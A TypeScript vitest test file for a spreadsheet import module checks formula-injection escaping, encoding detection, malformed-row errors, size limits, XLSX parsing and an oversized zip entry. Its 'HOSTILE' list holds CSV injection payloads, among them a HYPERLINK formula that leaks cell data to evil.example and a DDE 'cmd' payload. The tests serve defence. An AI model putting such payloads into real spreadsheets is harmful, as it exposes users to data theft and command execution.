import { stringify } from 'csv-stringify/sync'
import ExcelJS from 'exceljs'
import { expect, test } from 'vitest'
import { plainCell, safeCell } from './cell.ts'
import { errorFile } from './error-file.ts'
import { openSheet, type SheetRow } from './sheet.ts'

const bytes = (text: string) => new TextEncoder().encode(text)
async function read(content: Uint8Array | string): Promise<SheetRow[]> {
  const rows: SheetRow[] = []
  for await (const row of openSheet(typeof content === 'string' ? bytes(content) : content).rows()) rows.push(row)
  return rows
}
const cells = async (content: Uint8Array | string) =>
  (await read(content)).map((r) => ('cells' in r ? r.cells : r.error.en))

const HOSTILE = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '\n=1+1',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '|=1',
  ';=1+1',
  '%0A=1',
  '＝1+1',
  '＋1',
  '\uFEFF=1',
  '\u200b=1',
  'a,b',
  'a;b\tc',
  'say "hi"',
  "'quoted'",
  "'=1",
  "''=1",
  "'",
  '9007199254740993',
  '007',
  '-5',
  '+8613800000000',
  '1e5',
  '张三\n李四',
  '😀',
]

test('what a spreadsheet would run is text, and comes back as it was', async () => {
  for (const value of HOSTILE) {
    const cell = safeCell(value)
    const letters = cell.replace(/^[\s\p{Cf}]+/u, '')
    expect(/^[=+\-@|;%＝＋－＠]/u.test(letters) && !/^[+-]?[\d.]+$/.test(letters), JSON.stringify(value)).toBe(false)
    expect(plainCell(cell)).toBe(value)
  }
  const file = `\uFEFF${stringify([['id', 'note'], ...HOSTILE.map((v, i) => [`u${i}`, safeCell(v)])])}`
  expect(await cells(file)).toEqual([['id', 'note'], ...HOSTILE.map((v, i) => [`u${i}`, v])])
})

test('the encodings and separators that spreadsheet programs write', async () => {
  const table = [
    ['姓名', '城市'],
    ['张三', '上海'],
  ]
  // “姓名,城市\n张三,上海” in GBK.
  const gbk = Buffer.from('d0d5c3fb2cb3c7cad00ad5c5c8fd2cc9cfbaa3', 'hex')
  const text = '姓名\t城市\r\n张三\t上海\r\n'
  expect(await cells(gbk)).toEqual(table)
  expect(openSheet(gbk).encoding).toBe('gb18030')
  expect(await cells(Buffer.from(`\uFEFF${text}`, 'utf16le'))).toEqual(table)
  expect(await cells(Buffer.from(`\uFEFF${text}`, 'utf16le').swap16())).toEqual(table)
  expect(await cells(text)).toEqual(table)
  expect(await cells('姓名;城市\n"张三";上海')).toEqual(table)
})

test('what cannot be read is a row with its number and its reason', async () => {
  expect(await cells('"email\na@b.c')).toEqual(['A quotation mark is never closed; nothing after it can be read'])
  expect(await read('email\n\n\n\n')).toMatchObject([
    { line: 1, cells: ['email'] },
    ...[2, 3, 4].map((line) => ({ line, error: { en: 'The row is empty' } })),
  ])
  expect(await cells('id\na\0b\nfine')).toEqual([['id'], 'The row holds NUL characters', ['fine']])
  expect(await cells('id,x\na,"b"c\nd,e')).toEqual([
    ['id', 'x'],
    ['a', '"b"c'],
    ['d', 'e'],
  ])
  expect(await cells(`id\n${'x'.repeat(40_000)}\nfine`)).toEqual([['id'], 'A cell is too long', ['fine']])
  expect(await cells('id,x\nshort\nlong,1,2,3')).toEqual([['id', 'x'], ['short'], ['long', '1', '2', '3']])
  expect(await cells('')).toEqual([])
})

test('too much of anything is refused', async () => {
  const refused = { code: 'import.file_too_large' }
  expect(() => openSheet(new Uint8Array(21 * 1024 * 1024))).toThrow(expect.objectContaining(refused))
  await expect(read(`id\n${'u\n'.repeat(200_001)}`)).rejects.toMatchObject(refused)
  await expect(read(Array(201).fill('x').join(','))).rejects.toMatchObject(refused)
})

test('XLSX: texts, numbers, dates, formulas by their results; what is none is told', async () => {
  const book = new ExcelJS.Workbook()
  const page = book.addWorksheet('members')
  page.addRow(['id', '生日', '积分', '备注'])
  page.addRow(['u1', new Date('1990-05-01'), 1200, { formula: '1+1', result: 2 }])
  page.addRow(['u2', null, 0.5, '=1+1'])
  const packed = new Uint8Array(await book.xlsx.writeBuffer())
  expect(await cells(packed)).toEqual([
    ['id', '生日', '积分', '备注'],
    ['u1', '1990-05-01', '1200', '2'],
    ['u2', '', '0.5', '=1+1'],
  ])
  const unreadable = expect.objectContaining({ code: 'import.file_unreadable' })
  expect(() => openSheet(packed.slice(0, 200))).toThrow(unreadable)
  const torn = Uint8Array.from(packed)
  torn.fill(7, 100, 400)
  await expect(read(torn)).rejects.toThrow(unreadable)
})

test('an archive that unpacks to more than any table is refused unopened', async () => {
  const book = new ExcelJS.Workbook()
  book.addWorksheet('x').addRow(['id'])
  const packed = new Uint8Array(await book.xlsx.writeBuffer())
  const view = new DataView(packed.buffer)
  // The first entry of the directory claims 4 GB.
  const directory = packed.findLastIndex((_, i) => i + 4 <= packed.length && view.getUint32(i, true) === 0x02014b50)
  view.setUint32(directory + 24, 0xffff_fff0, true)
  expect(() => openSheet(packed)).toThrow(expect.objectContaining({ code: 'import.file_too_large' }))
})

test('the error file holds the failed rows as they were, with their reasons, and can be imported again', async () => {
  const sheet = openSheet(bytes('id,note\nu1,fine\nu2,"=1+1"\n"u3,never closed'))
  const lines: string[] = []
  const errors = [
    { line: 3, field: 'email', message: '邮箱格式不正确' },
    { line: 3, field: '', message: '其他' },
    { line: 4, field: '', message: '引号没有闭合' },
  ]
  for await (const line of errorFile(sheet, errors, 'zh')) lines.push(line)
  expect(await cells(lines.join(''))).toEqual([
    ['行号', '错误原因', 'id', 'note'],
    ['3', 'email: 邮箱格式不正确; 其他', 'u2', '=1+1'],
    ['4', '引号没有闭合', '', ''],
  ])
})
